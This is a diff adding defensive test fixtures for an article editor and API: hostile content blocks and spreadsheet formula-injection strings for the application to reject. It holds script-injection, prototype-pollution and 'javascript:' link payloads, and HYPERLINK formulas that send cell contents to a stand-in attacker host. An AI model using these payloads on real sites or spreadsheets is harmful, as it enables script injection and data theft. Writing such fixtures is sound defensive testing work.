@@ -55,3 +55,36 @@ export const ATTACKS: readonly string[] = [
   '{"__proto__": {"attacked": true}}',
   '"}</script><script>attack()</script>',
 ]
+
+/** Blocks of an article that neither the editor nor the API may store. */
+export const HOSTILE_BLOCKS: readonly [string, unknown][] = [
+  ["HTML", { kind: "html", html: "<script>attack()</script>" }],
+  ["extra properties", { kind: "opening", text: "x", dangerouslySetInnerHTML: { __html: "<script>" } }],
+  ["a prototype", JSON.parse('{"kind": "opening", "text": "x", "__proto__": {"attacked": true}}')],
+  ["a constructor", { kind: "opening", text: "x", constructor: { prototype: { attacked: true } } }],
+  ["an object in place of text", { kind: "opening", text: { toString: "attack" } }],
+  ["a link to a script", { kind: "links", items: [{ label: "x", href: "javascript:attack()" }] }],
+  ["a link to another site", { kind: "links", items: [{ label: "x", href: "//evil.example" }] }],
+  ["deep nesting", nested(1000)],
+  ["a list in place of text", { kind: "opening", text: ["x"] }],
+  ["a list in a list", { kind: "list", isNumbered: false, items: [["x"]] }],
+  ["a very long text", { kind: "opening", text: "x".repeat(1201) }],
+  ["a very long heading", { kind: "heading", id: "x", text: "x".repeat(121) }],
+  ["a text of spaces", { kind: "text", paragraphs: ["x", "\n\u00a0\t"] }],
+  ["a quote of one letter", { kind: "quote", lines: ["x"] }],
+  ["a quote that is too long", { kind: "quote", lines: ["x".repeat(23)] }],
+  ["a quote of four lines", { kind: "quote", lines: ["one", "two", "three", "four"] }],
+  ["a single step", { kind: "steps", items: [{ title: "x", text: "x" }] }],
+  ["a very long label", { kind: "links", items: [{ label: "x".repeat(121), href: "/courses" }] }],
+]
+
+function nested(depth: number) {
+  let list: unknown = "x"
+  for (let i = 0; i < depth; i++) list = [list]
+  return { kind: "list", isNumbered: false, items: list }
+}
+
+/** What spreadsheets would run at the start of a cell. */
+export const FORMULAS: readonly string[] = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"].map(
+  start => `${start}HYPERLINK("https://evil.example/?"&A1, "x")`,
+)
